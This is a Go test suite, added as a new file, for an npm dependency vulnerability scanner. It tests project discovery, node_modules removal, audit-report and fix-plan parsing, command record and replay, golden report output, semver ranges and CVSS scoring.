@@ -0,0 +1,2116 @@
+package scanner
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+	"unicode/utf8"
+)
+
+// updateGolden rewrites the golden files in testdata instead of comparing against them
+var updateGolden = flag.Bool("update", false, "rewrite golden files in testdata")
+
+func TestFindNpmProjects(t *testing.T) {
+	// テスト用の一時ディレクトリを作成
+	tempDir := t.TempDir()
+
+	// テストケース1: package.jsonがあるプロジェクト
+	project1 := filepath.Join(tempDir, "project1")
+	if err := os.MkdirAll(project1, 0755); err != nil {
+		t.Fatalf("Failed to create test directory: %v", err)
+	}
+
+	packageJson1 := filepath.Join(project1, "package.json")
+	if err := os.WriteFile(packageJson1, []byte(`{"name": "test-project1"}`), 0644); err != nil {
+		t.Fatalf("Failed to create package.json: %v", err)
+	}
+
+	// テストケース2: ネストされたプロジェクト
+	project2 := filepath.Join(tempDir, "nested", "project2")
+	if err := os.MkdirAll(project2, 0755); err != nil {
+		t.Fatalf("Failed to create nested test directory: %v", err)
+	}
+
+	packageJson2 := filepath.Join(project2, "package.json")
+	if err := os.WriteFile(packageJson2, []byte(`{"name": "test-project2"}`), 0644); err != nil {
+		t.Fatalf("Failed to create nested package.json: %v", err)
+	}
+
+	// テストケース3: package.jsonがないディレクトリ
+	emptyDir := filepath.Join(tempDir, "empty")
+	if err := os.MkdirAll(emptyDir, 0755); err != nil {
+		t.Fatalf("Failed to create empty directory: %v", err)
+	}
+
+	// テスト実行
+	projects, err := Discover(context.Background(), tempDir, DiscoveryOptions{})
+	if err != nil {
+		t.Fatalf("Discover failed: %v", err)
+	}
+
+	// 結果の検証
+	expectedCount := 2
+	if len(projects) != expectedCount {
+		t.Errorf("Expected %d projects, got %d", expectedCount, len(projects))
+	}
+
+	// プロジェクトパスの検証
+	foundProject1 := false
+	foundProject2 := false
+
+	for _, project := range projects {
+		switch project.Dir {
+		case project1:
+			foundProject1 = true
+		case project2:
+			foundProject2 = true
+		}
+	}
+
+	if !foundProject1 {
+		t.Errorf("project1 not found in results")
+	}
+	if !foundProject2 {
+		t.Errorf("project2 not found in results")
+	}
+}
+
+func TestRemoveNodeModules(t *testing.T) {
+	// テスト用の一時ディレクトリを作成
+	tempDir := t.TempDir()
+
+	// node_modulesディレクトリを作成
+	nodeModulesDir := filepath.Join(tempDir, "node_modules")
+	if err := os.MkdirAll(nodeModulesDir, 0755); err != nil {
+		t.Fatalf("Failed to create node_modules directory: %v", err)
+	}
+
+	// テスト用ファイルを作成
+	testFile := filepath.Join(nodeModulesDir, "test-package", "index.js")
+	if err := os.MkdirAll(filepath.Dir(testFile), 0755); err != nil {
+		t.Fatalf("Failed to create test package directory: %v", err)
+	}
+	if err := os.WriteFile(testFile, []byte("console.log('test');"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	// node_modulesが存在することを確認
+	if _, err := os.Stat(nodeModulesDir); os.IsNotExist(err) {
+		t.Fatalf("node_modules directory should exist before test")
+	}
+
+	// removeNodeModules実行
+	if err := removeNodeModules(io.Discard, tempDir); err != nil {
+		t.Errorf("removeNodeModules failed: %v", err)
+	}
+
+	// node_modulesが削除されていることを確認
+	if _, err := os.Stat(nodeModulesDir); !os.IsNotExist(err) {
+		t.Errorf("node_modules directory should be removed")
+	}
+
+	// node_modulesが存在しない場合のテスト
+	if err := removeNodeModules(io.Discard, tempDir); err != nil {
+		t.Errorf("removeNodeModules should not fail when node_modules doesn't exist: %v", err)
+	}
+}
+
+func TestScanProjectInPlaceInterrupted(t *testing.T) {
+	newProject := func() string {
+		project := t.TempDir()
+		if err := os.MkdirAll(filepath.Join(project, "node_modules", "dep"), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(project, "package-lock.json"), []byte(`{"lockfileVersion": 3}`),
+			0644); err != nil {
+			t.Fatal(err)
+		}
+		return project
+	}
+
+	// 中断済みならnode_modulesを削除しない
+	project := newProject()
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	var result ScanResult
+	scanProjectInPlace(ctx, io.Discard, project, npmManager{}, &result, Options{Runner: &ReplayRunner{}})
+	if _, err := os.Stat(filepath.Join(project, "node_modules", "dep")); err != nil {
+		t.Errorf("node_modules should be kept when the scan is already interrupted: %v", err)
+	}
+	if !result.NodeModules.Skipped || result.NpmInstall.Error != "" {
+		t.Errorf("Expected removal to be skipped, got %+v", result)
+	}
+
+	// 削除直後に中断されると再インストールを行わずにその旨を記録する
+	project = newProject()
+	ctx, cancel = context.WithCancel(context.Background())
+	defer cancel()
+	result = ScanResult{}
+	scanProjectInPlace(ctx, io.Discard, project, npmManager{}, &result, Options{Runner: &ReplayRunner{},
+		Events: func(event Event) {
+			if step, ok := event.(StepFinished); ok && step.Step == StepRemove {
+				cancel()
+			}
+		}})
+	if !result.NodeModules.Success || result.NpmInstall.Success {
+		t.Errorf("Expected node_modules removed and no install, got %+v", result)
+	}
+	if result.NpmInstall.Error != errReinstallSkipped.Error() {
+		t.Errorf("Expected %q, got %q", errReinstallSkipped, result.NpmInstall.Error)
+	}
+}
+
+func TestParseAuditJSON(t *testing.T) {
+	// npm 7+ (auditReportVersion 2) 形式
+	v2 := `{
+  "auditReportVersion": 2,
+  "vulnerabilities": {
+    "minimist": {
+      "name": "minimist", "severity": "critical", "isDirect": false,
+      "via": [{"source": 1097678, "name": "minimist", "dependency": "minimist",
+               "title": "Prototype Pollution in minimist",
+               "url": "https://github.com/advisories/GHSA-xvch-5gv4-984h",
+               "severity": "critical", "cvss": {"score": 9.8, "vectorString": "CVSS:3.1/AV:N"},
+               "range": "<0.2.4", "cves": ["CVE-2021-44906"]}],
+      "effects": ["mkdirp"], "range": "<0.2.4", "nodes": ["node_modules/minimist"],
+      "fixAvailable": {"name": "mkdirp", "version": "1.0.4", "isSemVerMajor": true}
+    },
+    "mkdirp": {
+      "name": "mkdirp", "severity": "critical", "isDirect": true,
+      "via": ["minimist"], "effects": [], "range": "0.4.1 - 0.5.1",
+      "nodes": ["node_modules/mkdirp"], "fixAvailable": true
+    }
+  }
+}`
+
+	vulns, err := parseAuditJSON(v2, nil)
+	if err != nil {
+		t.Fatalf("parseAuditJSON failed for v2 report: %v", err)
+	}
+	if len(vulns) != 2 {
+		t.Fatalf("Expected 2 vulnerabilities, got %d", len(vulns))
+	}
+
+	minimist := vulns[0]
+	if minimist.Package != "minimist" || minimist.GHSA != "GHSA-xvch-5gv4-984h" || minimist.AdvisoryID != "1097678" {
+		t.Errorf("Unexpected advisory data: %+v", minimist)
+	}
+	if minimist.CVSS != 9.8 || minimist.VulnerableRange != "<0.2.4" {
+		t.Errorf("Expected CVSS 9.8 and range <0.2.4, got %v and %s", minimist.CVSS, minimist.VulnerableRange)
+	}
+	if !minimist.FixAvailable || minimist.FixVersion != "mkdirp@1.0.4" || !minimist.FixIsSemVerMajor {
+		t.Errorf("Unexpected fix data: %+v", minimist)
+	}
+
+	if len(minimist.CVEs) != 1 || minimist.CVEs[0] != "CVE-2021-44906" {
+		t.Errorf("Expected CVEs from the advisory, got %v", minimist.CVEs)
+	}
+	// ロックファイルがなければeffectsから依存チェーンを復元する
+	if minimist.IsDirect || strings.Join(minimist.Via, ">") != "mkdirp>minimist" {
+		t.Errorf("Expected chain mkdirp>minimist from effects, got %v", minimist.Via)
+	}
+
+	mkdirp := vulns[1]
+	if !mkdirp.IsDirect || len(mkdirp.Via) != 2 || mkdirp.Via[1] != "minimist" {
+		t.Errorf("Expected transitive finding via minimist, got %+v", mkdirp)
+	}
+
+	// ロックファイルからインストール済みのバージョンと依存チェーンを解決する
+	projectDir := t.TempDir()
+	lockJSON := `{"name": "app", "lockfileVersion": 3, "packages": {
+  "": {"name": "app", "dependencies": {"mkdirp": "^0.5.1"}},
+  "node_modules/mkdirp": {"version": "0.5.1", "dependencies": {"minimist": "0.0.8"}},
+  "node_modules/minimist": {"version": "0.0.8"}
+}}`
+	if err := os.WriteFile(filepath.Join(projectDir, "package-lock.json"), []byte(lockJSON), 0644); err != nil {
+		t.Fatal(err)
+	}
+	vulns, err = (npmManager{}).ParseAudit(v2, projectDir)
+	if err != nil {
+		t.Fatalf("ParseAudit failed with lockfile: %v", err)
+	}
+	if len(vulns) != 2 || vulns[0].Version != "0.0.8" || vulns[1].Version != "0.5.1" {
+		t.Fatalf("Expected installed versions from the lockfile, got %+v", vulns)
+	}
+	if strings.Join(vulns[0].Via, ">") != "mkdirp>minimist" || vulns[0].IsDirect {
+		t.Errorf("Expected lockfile chain mkdirp>minimist, got %v", vulns[0].Via)
+	}
+	if strings.Join(vulns[1].Via, ">") != "mkdirp>minimist" || !vulns[1].IsDirect {
+		t.Errorf("Expected direct mkdirp depending on minimist, got %+v", vulns[1])
+	}
+
+	// npm 6 (v1) 形式
+	v1 := `> safe-chain banner
+{
+  "advisories": {
+    "1179": {
+      "id": 1179, "module_name": "minimist", "severity": "low",
+      "title": "Prototype Pollution", "url": "https://npmjs.com/advisories/1179",
+      "github_advisory_id": "GHSA-vh95-rmgr-6w4m", "cves": ["CVE-2020-7598"],
+      "vulnerable_versions": "<0.2.1", "patched_versions": ">=0.2.1",
+      "findings": [{"version": "0.0.8", "paths": ["mkdirp>minimist"]}]
+    }
+  }
+}`
+
+	vulns, err = parseAuditJSON(v1, nil)
+	if err != nil {
+		t.Fatalf("parseAuditJSON failed for v1 report: %v", err)
+	}
+	if len(vulns) != 1 {
+		t.Fatalf("Expected 1 vulnerability, got %d", len(vulns))
+	}
+	if vulns[0].Version != "0.0.8" || vulns[0].CVEs[0] != "CVE-2020-7598" || vulns[0].GHSA != "GHSA-vh95-rmgr-6w4m" {
+		t.Errorf("Unexpected v1 vulnerability: %+v", vulns[0])
+	}
+
+	// npmのエラーオブジェクト
+	if _, err := parseAuditJSON(`{"error": {"code": "ENOLOCK", "summary": "requires lockfile"}}`, nil); err == nil {
+		t.Errorf("Expected error for npm audit error report")
+	}
+}
+
+func TestCopyProjectToWorkspace(t *testing.T) {
+	// テスト用のプロジェクトを作成
+	projectDir := t.TempDir()
+	files := map[string]string{
+		"package.json":                  `{"name": "test"}`,
+		"src/index.js":                  "console.log('test');",
+		"node_modules/dep/package.json": `{"name": "dep"}`,
+		".git/HEAD":                     "ref: refs/heads/main",
+	}
+	for name, content := range files {
+		path := filepath.Join(projectDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	if hasLockfile(projectDir, npmManager{}) {
+		t.Errorf("Expected project without lockfile")
+	}
+
+	// プロジェクト外を指す相対シンボリックリンク（file:../shared など）
+	shared := t.TempDir()
+	if err := os.WriteFile(filepath.Join(shared, "index.js"), []byte("module.exports = 1;"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	outside, err := filepath.Rel(filepath.Join(projectDir, "src"), shared)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(projectDir, "src", "shared")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("index.js", filepath.Join(projectDir, "src", "main.js")); err != nil {
+		t.Fatal(err)
+	}
+
+	workspace, cleanup, err := copyProjectToWorkspace(projectDir)
+	if err != nil {
+		t.Fatalf("copyProjectToWorkspace failed: %v", err)
+	}
+
+	for _, name := range []string{"package.json", "src/index.js", "src/shared/index.js", "src/main.js"} {
+		if _, err := os.Stat(filepath.Join(workspace, name)); err != nil {
+			t.Errorf("Expected %s to be copied: %v", name, err)
+		}
+	}
+	// プロジェクト内のリンクはワークスペース内を指したままにする
+	if link, err := os.Readlink(filepath.Join(workspace, "src", "main.js")); err != nil || link != "index.js" {
+		t.Errorf("Expected relative link index.js to be kept, got %q (%v)", link, err)
+	}
+	for _, name := range []string{"node_modules", ".git"} {
+		if _, err := os.Stat(filepath.Join(workspace, name)); !os.IsNotExist(err) {
+			t.Errorf("Expected %s not to be copied", name)
+		}
+	}
+
+	// 元のプロジェクトは変更されていないこと
+	if _, err := os.Stat(filepath.Join(projectDir, "node_modules", "dep", "package.json")); err != nil {
+		t.Errorf("Original node_modules should be untouched: %v", err)
+	}
+
+	cleanup()
+	if _, err := os.Stat(workspace); !os.IsNotExist(err) {
+		t.Errorf("Workspace should be removed by cleanup")
+	}
+}
+
+func TestParseFixPlan(t *testing.T) {
+	tests := []struct {
+		name   string
+		output string
+		want   []FixChange
+	}{
+		{
+			// npm 7+ のdry-run出力（差分行 + JSONサマリー）
+			name: "npm 7 changes",
+			output: `change minimist 0.0.8 => 1.2.8
+add ms 2.1.3
+remove debug 2.6.9
+{
+  "added": 1,
+  "removed": 1,
+  "changed": 1,
+  "audited": 42,
+  "funding": 0
+}`,
+			want: []FixChange{
+				{Action: "change", Package: "minimist", From: "0.0.8", To: "1.2.8"},
+				{Action: "add", Package: "ms", To: "2.1.3"},
+				{Action: "remove", Package: "debug", From: "2.6.9"},
+			},
+		},
+		{
+			// 変更がない場合、npm 7+ は数値のサマリーだけを出力する
+			name:   "npm 7 no changes",
+			output: `{"added": 0, "removed": 0, "changed": 0, "audited": 42, "funding": 0}`,
+			want:   []FixChange{},
+		},
+		{
+			name: "npm 6 changes",
+			output: `{"added": [], "removed": [], "updated": [{"action": "update", "name": "lodash",
+  "version": "4.17.21", "previousVersion": "4.17.4"}]}`,
+			want: []FixChange{{Action: "change", Package: "lodash", From: "4.17.4", To: "4.17.21"}},
+		},
+		{
+			name:   "npm 6 no changes",
+			output: `{"added": [], "removed": [], "updated": []}`,
+			want:   []FixChange{},
+		},
+	}
+
+	for _, tt := range tests {
+		plan, err := parseFixPlan(tt.output)
+		if err != nil {
+			t.Errorf("%s: parseFixPlan failed: %v", tt.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(plan, tt.want) {
+			t.Errorf("%s: expected plan %+v, got %+v", tt.name, tt.want, plan)
+		}
+	}
+
+	if _, err := parseFixPlan("npm ERR! network"); err == nil {
+		t.Errorf("Expected error for output without a plan")
+	}
+	// 件数があるのに変更行を読めないサマリーは変更なしとして扱わない
+	if _, err := parseFixPlan(`{"added":0,"removed":0,"changed":2}`); err == nil {
+		t.Errorf("Expected error for a summary with changes but no change lines")
+	}
+}
+
+func TestMarkFixedVulnerabilities(t *testing.T) {
+	before := []Vulnerability{
+		{Package: "minimist", Version: "0.0.8", AdvisoryID: "1", Severity: SeverityCritical},
+		{Package: "lodash", Version: "4.17.4", AdvisoryID: "2", Severity: SeverityHigh},
+	}
+	after := []Vulnerability{
+		{Package: "lodash", Version: "4.17.11", AdvisoryID: "2", Severity: SeverityHigh},
+		{Package: "ms", Version: "2.0.0", AdvisoryID: "3", Severity: SeverityLow},
+	}
+
+	result := markFixedVulnerabilities(before, after)
+	if len(result) != 3 {
+		t.Fatalf("Expected 3 vulnerabilities, got %d", len(result))
+	}
+	if !result[0].Fixed {
+		t.Errorf("Expected minimist to be marked fixed")
+	}
+	if result[1].Fixed {
+		t.Errorf("Expected lodash to remain unfixed")
+	}
+	if result[2].Package != "ms" || result[2].Fixed {
+		t.Errorf("Expected new finding for ms to be appended, got %+v", result[2])
+	}
+}
+
+func TestManifestSnapshotRestore(t *testing.T) {
+	projectDir := t.TempDir()
+	packageJSON := filepath.Join(projectDir, "package.json")
+	lockfile := filepath.Join(projectDir, "package-lock.json")
+
+	if err := os.WriteFile(packageJSON, []byte(`{"name": "original"}`), 0644); err != nil {
+		t.Fatalf("Failed to create package.json: %v", err)
+	}
+
+	snapshot, err := snapshotManifests(projectDir)
+	if err != nil {
+		t.Fatalf("snapshotManifests failed: %v", err)
+	}
+
+	// npm audit fix 相当の変更
+	if err := os.WriteFile(packageJSON, []byte(`{"name": "modified"}`), 0644); err != nil {
+		t.Fatalf("Failed to modify package.json: %v", err)
+	}
+	if err := os.WriteFile(lockfile, []byte(`{}`), 0644); err != nil {
+		t.Fatalf("Failed to create lockfile: %v", err)
+	}
+
+	if err := snapshot.restore(); err != nil {
+		t.Fatalf("restore failed: %v", err)
+	}
+
+	data, err := os.ReadFile(packageJSON)
+	if err != nil || string(data) != `{"name": "original"}` {
+		t.Errorf("Expected package.json to be restored, got %q (%v)", data, err)
+	}
+	if _, err := os.Stat(lockfile); !os.IsNotExist(err) {
+		t.Errorf("Expected lockfile created by fix to be removed")
+	}
+}
+
+func TestReportCollectorOrder(t *testing.T) {
+	collector := newReportCollector(3, Options{})
+
+	// 完了順に関係なく検出順で並ぶこと
+	var wg sync.WaitGroup
+	for _, i := range []int{2, 0, 1} {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			status := StatusSuccess
+			if i == 1 {
+				status = StatusFailed
+			}
+			collector.add(i, &ScanResult{ProjectPath: fmt.Sprintf("project%d", i), Status: status})
+		}(i)
+	}
+	wg.Wait()
+
+	report := collector.finalize()
+	if report.ProjectsScanned != 3 || report.SuccessCount != 2 || report.ErrorCount != 1 {
+		t.Errorf("Unexpected counts: scanned=%d success=%d error=%d",
+			report.ProjectsScanned, report.SuccessCount, report.ErrorCount)
+	}
+	for i, result := range report.Results {
+		if expected := fmt.Sprintf("project%d", i); result.ProjectPath != expected {
+			t.Errorf("Expected %s at index %d, got %s", expected, i, result.ProjectPath)
+		}
+	}
+}
+
+func TestRunCommandTimeout(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("process group handling is Unix-specific")
+	}
+
+	// タイムアウトで子プロセス（孫プロセス含む）が停止されること
+	start := time.Now()
+	_, err := ExecRunner{}.Run(context.Background(), Command{Name: "sh", Args: []string{"-c", "sleep 10 & sleep 10"},
+		Combined: true, Timeout: 100 * time.Millisecond})
+	if err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Errorf("Expected timeout error, got %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > commandWaitDelay {
+		t.Errorf("Command was not killed promptly: %v", elapsed)
+	}
+
+	// キャンセル済みのコンテキストでは中断エラーになること
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if _, err := (ExecRunner{}).Run(ctx, Command{Name: "sh", Args: []string{"-c", "sleep 10"}}); !errors.Is(err, errInterrupted) {
+		t.Errorf("Expected errInterrupted, got %v", err)
+	}
+
+	// 非ゼロの終了コードはExitErrorとしてstderrとともに返ること
+	_, err = ExecRunner{}.Run(context.Background(), Command{Name: "sh", Args: []string{"-c", "echo oops >&2; exit 3"}})
+	var exitErr *ExitError
+	if !errors.As(err, &exitErr) || exitErr.Code != 3 || string(exitErr.Stderr) != "oops\n" {
+		t.Errorf("Expected exit status 3 with stderr, got %v", err)
+	}
+}
+
+func TestCommandRecordReplay(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
+	}
+
+	root := t.TempDir()
+	project := filepath.Join(root, "web")
+	if err := os.MkdirAll(project, 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	fixture := filepath.Join(t.TempDir(), "commands.jsonl")
+	recorder, err := NewRecordingRunner(ExecRunner{}, root, fixture)
+	if err != nil {
+		t.Fatalf("NewRecordingRunner failed: %v", err)
+	}
+
+	ctx := context.Background()
+	failing := Command{Dir: project, Name: "sh", Args: []string{"-c", "echo out; echo err >&2; exit 2"}}
+	for _, cmd := range []Command{{Dir: project, Name: "pwd"}, failing} {
+		if _, err := recorder.Run(ctx, cmd); cmd.Name == "pwd" && err != nil {
+			t.Fatalf("Recording %s failed: %v", cmd, err)
+		}
+	}
+	if _, err := recorder.LookPath("non-existent-command-12345"); err == nil {
+		t.Errorf("Expected the recorder to pass lookup errors through")
+	}
+	shPath, _ := recorder.LookPath("sh")
+
+	// 別の場所にあるチェックアウトでも相対パスで再生できること
+	moved := t.TempDir()
+	replay, err := LoadReplayRunner(moved, fixture)
+	if err != nil {
+		t.Fatalf("LoadReplayRunner failed: %v", err)
+	}
+	failing.Dir = filepath.Join(moved, "web")
+	output, err := replay.Run(ctx, failing)
+	var exitErr *ExitError
+	if string(output) != "out\n" || !errors.As(err, &exitErr) || exitErr.Code != 2 || string(exitErr.Stderr) != "err\n" {
+		t.Errorf("Unexpected replay of a failing command: %q, %v", output, err)
+	}
+	if output, err := replay.Run(ctx, Command{Dir: failing.Dir, Name: "pwd"}); err != nil ||
+		strings.TrimSpace(string(output)) != project {
+		t.Errorf("Expected the recorded pwd output, got %q, %v", output, err)
+	}
+	if _, err := replay.Run(ctx, Command{Dir: moved, Name: "pwd"}); err == nil {
+		t.Errorf("Expected an error for a command recorded in another directory")
+	}
+	if path, err := replay.LookPath("sh"); err != nil || path != shPath {
+		t.Errorf("Expected the recorded sh lookup, got %s, %v", path, err)
+	}
+	if _, err := replay.LookPath("non-existent-command-12345"); !errors.Is(err, exec.ErrNotFound) {
+		t.Errorf("Expected a not found error, got %v", err)
+	}
+}
+
+func TestExamplesGolden(t *testing.T) {
+	examples, err := filepath.Abs(filepath.Join("..", "examples"))
+	if err != nil {
+		t.Fatalf("Failed to resolve examples: %v", err)
+	}
+	iocs, err := LoadIOCDatabase(nil)
+	if err != nil {
+		t.Fatalf("LoadIOCDatabase failed: %v", err)
+	}
+
+	// フィクスチャはnpmの出力形式に合わせて手書きした合成データで、実際のnpmの記録ではない
+	// （レジストリに接続できない環境で作成したため）。実際の動作を固定するには
+	// --record-commandsで再記録する
+	tests := []struct {
+		name     string
+		commands string
+		golden   string
+		opts     Options
+	}{
+		{"read-only", "commands.jsonl", "report.golden.json", Options{ReadOnly: true}},
+		// デフォルトの削除 → インストール → 監査の流れ（examples/のコピーで実行する）
+		{"in-place", "commands-inplace.jsonl", "report-inplace.golden.json", Options{}},
+	}
+
+	for _, tt := range tests {
+		root := examples
+		if !tt.opts.ReadOnly {
+			workspace, cleanup, err := copyProjectToWorkspace(examples)
+			if err != nil {
+				t.Fatalf("%s: failed to copy examples: %v", tt.name, err)
+			}
+			defer cleanup()
+			root = workspace
+		}
+
+		runner, err := LoadReplayRunner(root, filepath.Join("testdata", "examples", tt.commands))
+		if err != nil {
+			t.Fatalf("%s: LoadReplayRunner failed: %v", tt.name, err)
+		}
+		ctx := context.Background()
+		projects, err := Discover(ctx, root, DiscoveryOptions{})
+		if err != nil {
+			t.Fatalf("%s: Discover failed: %v", tt.name, err)
+		}
+		if !tt.opts.ReadOnly {
+			// 削除ステップを通すため、コピーしなかったnode_modulesの代わりを置く
+			for _, project := range projects {
+				if err := os.MkdirAll(filepath.Join(project.Dir, "node_modules", ".bin"), 0755); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+
+		opts := tt.opts
+		opts.Jobs, opts.TargetDir, opts.IOCs, opts.Runner = 2, root, iocs, runner
+		report, err := ScanAll(ctx, projects, opts)
+		if err != nil {
+			t.Fatalf("%s: ScanAll failed: %v", tt.name, err)
+		}
+		if !tt.opts.ReadOnly {
+			for _, project := range projects {
+				if _, err := os.Stat(filepath.Join(project.Dir, "node_modules", ".bin")); !os.IsNotExist(err) {
+					t.Errorf("%s: expected node_modules to be removed from %s", tt.name, project.Dir)
+				}
+			}
+		}
+
+		// 実行ごとに変わる時刻・ID・絶対パスを除いて比較する
+		report.ScanID = "scan_golden"
+		report.StartTime, report.EndTime, report.TotalDuration = time.Time{}, time.Time{}, 0
+		for i := range report.Results {
+			result := &report.Results[i]
+			result.StartTime, result.EndTime, result.Duration = time.Time{}, time.Time{}, 0
+		}
+		got, err := json.MarshalIndent(report, "", "  ")
+		if err != nil {
+			t.Fatalf("%s: failed to marshal report: %v", tt.name, err)
+		}
+		got = append(bytes.ReplaceAll(got, []byte(filepath.ToSlash(root)), []byte("$EXAMPLES")), '\n')
+
+		golden := filepath.Join("testdata", "examples", tt.golden)
+		if *updateGolden {
+			if err := os.WriteFile(golden, got, 0644); err != nil {
+				t.Fatalf("%s: failed to update golden file: %v", tt.name, err)
+			}
+		}
+		want, err := os.ReadFile(golden)
+		if err != nil {
+			t.Fatalf("%s: failed to read golden file (run go test ./scanner -run TestExamplesGolden -update): %v",
+				tt.name, err)
+		}
+		if !bytes.Equal(got, want) {
+			t.Errorf("%s: report differs from %s (rerun with -update if the change is intended):\n%s",
+				tt.name, golden, got)
+		}
+	}
+}
+
+func TestScanEvents(t *testing.T) {
+	root, err := filepath.Abs(filepath.Join("..", "examples"))
+	if err != nil {
+		t.Fatalf("Failed to resolve examples: %v", err)
+	}
+	runner, err := LoadReplayRunner(root, filepath.Join("testdata", "examples", "commands.jsonl"))
+	if err != nil {
+		t.Fatalf("LoadReplayRunner failed: %v", err)
+	}
+
+	ctx := context.Background()
+	projects, err := Discover(ctx, root, DiscoveryOptions{})
+	if err != nil {
+		t.Fatalf("Discover failed: %v", err)
+	}
+	var stream bytes.Buffer
+	report, err := ScanAll(ctx, projects, Options{ReadOnly: true, Jobs: 2, TargetDir: root, Runner: runner,
+		Events: NDJSONEvents(&stream)})
+	if err != nil {
+		t.Fatalf("ScanAll failed: %v", err)
+	}
+
+	var events []map[string]interface{}
+	for _, line := range strings.Split(strings.TrimSpace(stream.String()), "\n") {
+		var event map[string]interface{}
+		if err := json.Unmarshal([]byte(line), &event); err != nil {
+			t.Fatalf("Invalid NDJSON line %q: %v", line, err)
+		}
+		if _, ok := event["time"]; !ok {
+			t.Errorf("Expected a timestamp in %s", line)
+		}
+		events = append(events, event)
+	}
+
+	// 全プロジェクトの発見が最初に、スキャン完了が最後に通知される
+	for i := range projects {
+		if events[i]["type"] != "project_discovered" || events[i]["project"] != projects[i].Dir {
+			t.Errorf("Expected project_discovered for %s at %d, got %v", projects[i].Dir, i, events[i])
+		}
+	}
+	last := events[len(events)-1]
+	if last["type"] != "scan_completed" || last["scan_id"] != report.ScanID ||
+		last["projects_scanned"] != float64(len(projects)) {
+		t.Errorf("Expected scan_completed last, got %v", last)
+	}
+
+	// 開始したステップはすべて終了し、検出結果は抑制・ベースライン分も含めて通知される
+	open := make(map[string]int)
+	counts := make(map[string]int)
+	for _, event := range events {
+		key := fmt.Sprint(event["project"], " ", event["step"])
+		switch event["type"] {
+		case "step_started":
+			open[key]++
+		case "step_finished":
+			open[key]--
+		}
+		counts[fmt.Sprint(event["type"])]++
+	}
+	for key, n := range open {
+		if n != 0 {
+			t.Errorf("Unbalanced step events for %s: %d", key, n)
+		}
+	}
+	findings := 0
+	for _, result := range report.Results {
+		findings += len(result.Vulnerabilities) + len(result.Suppressed) + len(result.Baselined)
+	}
+	if counts["finding_detected"] != findings || counts["project_finished"] != len(projects) ||
+		counts["step_started"] == 0 {
+		t.Errorf("Unexpected event counts %v for %d finding(s)", counts, findings)
+	}
+
+	// 同時に実行した別々のスキャンはイベントのロックを共有しない
+	ready, release := make(chan struct{}), make(chan struct{})
+	done := make(chan error, 1)
+	go func() {
+		_, err := ScanAll(ctx, nil, Options{ReadOnly: true, Runner: runner, Events: func(event Event) {
+			if _, ok := event.(ScanCompleted); ok {
+				close(ready)
+				<-release
+			}
+		}})
+		done <- err
+	}()
+	<-ready
+	second := make(chan error, 1)
+	go func() {
+		_, err := ScanAll(ctx, nil, Options{ReadOnly: true, Runner: runner, Events: func(Event) {}})
+		second <- err
+	}()
+	select {
+	case err := <-second:
+		if err != nil {
+			t.Errorf("Concurrent ScanAll failed: %v", err)
+		}
+	case <-time.After(5 * time.Second):
+		t.Errorf("ScanAll blocked on the events of another scan")
+	}
+	close(release)
+	if err := <-done; err != nil {
+		t.Errorf("ScanAll failed: %v", err)
+	}
+}
+
+func TestSemverRange(t *testing.T) {
+	tests := []struct {
+		rng      string
+		version  string
+		expected bool
+	}{
+		{"^1.2.3", "1.9.0", true},
+		{"^1.2.3", "2.0.0", false},
+		{"^0.2.3", "0.3.0", false},
+		{"~1.2.3", "1.2.9", true},
+		{"~1.2.3", "1.3.0", false},
+		{"1.2.x", "1.2.7", true},
+		{"1.2 - 1.4", "1.4.9", true},
+		{"1.2 - 1.4", "1.5.0", false},
+		{">=2.0.0 <3 || <1.0.0", "0.9.0", true},
+		{">= 1.0.0, < 1.2.3", "1.2.3", false}, // GitHub advisory形式
+		{"<4.17.21", "4.17.21-beta.1", true},
+		{"*", "0.0.1", true},
+		{"<= 1.0", "1.0.5", true},
+	}
+
+	for _, tt := range tests {
+		r, err := parseSemverRange(tt.rng)
+		if err != nil {
+			t.Fatalf("parseSemverRange(%q) failed: %v", tt.rng, err)
+		}
+		v, err := parseSemver(tt.version)
+		if err != nil {
+			t.Fatalf("parseSemver(%q) failed: %v", tt.version, err)
+		}
+		if got := r.contains(v); got != tt.expected {
+			t.Errorf("%q contains %s: expected %v, got %v", tt.rng, tt.version, tt.expected, got)
+		}
+	}
+}
+
+func TestCVSSV3BaseScore(t *testing.T) {
+	tests := []struct {
+		vector   string
+		expected float64
+	}{
+		{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8},
+		{"CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", 6.1},
+		{"CVSS:3.0/AV:L/AC:H/PR:H/UI:R/S:U/C:N/I:N/A:L", 1.8},
+	}
+	for _, tt := range tests {
+		score, ok := cvssV3BaseScore(tt.vector)
+		if !ok || score != tt.expected {
+			t.Errorf("%s: expected %.1f, got %.1f (ok=%v)", tt.vector, tt.expected, score, ok)
+		}
+	}
+
+	if _, ok := cvssV3BaseScore("CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"); ok {
+		t.Errorf("Expected CVSS v4 vectors to be rejected")
+	}
+}
+
